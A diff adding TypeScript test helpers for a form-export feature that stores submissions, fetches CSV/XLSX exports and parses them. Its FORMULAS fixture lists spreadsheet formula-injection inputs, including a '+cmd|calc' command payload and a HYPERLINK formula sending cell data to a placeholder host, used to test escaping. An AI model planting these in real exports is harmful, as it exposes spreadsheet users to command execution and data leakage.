@@ -1,0 +1,108 @@
+import { randomUUID } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
+import { readSheet } from 'read-excel-file/node';
+import { expect } from 'vitest';
+import { createEmptyDefinition, createField, type Answers } from '@inlay/sdk/model';
+import type { TestApi, TestPerson } from './testApi.ts';
+
+export type Form = { id: string; revisionId: string };
+export const field = (type: 'text' | 'textarea' | 'address' | 'checkbox', id: string, label: string) => ({
+  ...createField(type),
+  id,
+  label,
+});
+export const definition = (title: string, ...fields: ReturnType<typeof field>[]) => ({
+  ...createEmptyDefinition(title),
+  fields,
+});
+
+/** Stored as it is, also what no visitor could send; the first is the oldest. */
+export async function store(
+  api: TestApi,
+  form: Form,
+  owner: TestPerson,
+  answers: readonly Answers[],
+): Promise<string[]> {
+  const ids: string[] = [];
+  for (const [at, one] of answers.entries()) {
+    const id = randomUUID();
+    ids.push(id);
+    await api.database.query(
+      `insert into form_submissions (id, form_id, account_id, revision_id, submission_data, submitted_at,
+         idempotency_key, content_hash, receipt_code)
+       values ($1, $2, $3, $4, $5, $6, gen_random_uuid(), '', $7)`,
+      [
+        id,
+        form.id,
+        owner.userId,
+        form.revisionId,
+        JSON.stringify(one),
+        new Date(Date.UTC(2026, 0, 31, 23, 30, at)),
+        id,
+      ],
+    );
+  }
+  return ids;
+}
+
+export interface Made {
+  id: string;
+  item: { state: string; rows: number; bytes: number; sha256: string; fileName: string };
+  bytes: Buffer;
+}
+export async function makeExport(api: TestApi, person: TestPerson, request: object): Promise<Made> {
+  const asked = await person.post('/api/exports', request);
+  expect(asked.status).toBe(202);
+  await api.runJobs();
+  const item = (await person.get(`/api/exports/${asked.body.id}`)).body;
+  return { id: asked.body.id, item, bytes: await download(api, person, asked.body.id) };
+}
+export async function download(api: TestApi, person: TestPerson, id: string): Promise<Buffer> {
+  const response = await fetch(`${api.url}/api/exports/${id}/file`, { headers: { cookie: person.cookie } });
+  return Buffer.from(await response.arrayBuffer());
+}
+export const readCsv = (bytes: Buffer): string[][] => parse(bytes, { bom: true, record_delimiter: '\r\n' });
+export const readXlsx = async (bytes: Buffer) =>
+  (await readSheet(bytes, { trim: false })).map((row) =>
+    row.map((cell) => (cell === null ? '' : String(cell))),
+  );
+
+export const home = {
+  street: '1 Main St',
+  address2: '',
+  city: 'Bern',
+  state: 'BE',
+  postal: '3000',
+  country: 'Other',
+};
+
+/** What people type, and worse. */
+export const NASTY = [
+  'a "quoted" word, and a comma; and\ttab',
+  'line one\nline two\r\nline three',
+  '🎂 مرحبا Ünïcödé 👩‍👩‍👧',
+  'x'.repeat(10_000),
+  '<b>&amp;</b> ]]> _x0041_',
+  ' leading and trailing ',
+];
+/** Formulas as T18 lists them, each with what CSV makes of it. */
+export const FORMULAS = [
+  '=1+1',
+  '+cmd|calc',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '  =1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠1',
+  '=HYPERLINK("http://a.example?"&A1,"x")',
+  '-1-1-1-1-1-1-1',
+];
+/** An answer as it is printed everywhere: every kind of line end is one. */
+export const printed = (value: string) => value.replace(/\r\n?/g, '\n');
+/** Left as they are (D-105). */
+export const HARMLESS = ['-5', '+3.14', '-1,234.50', '+49 30 1234567', '+1 (555) 010-0000', 'a=b', '1-2', ''];
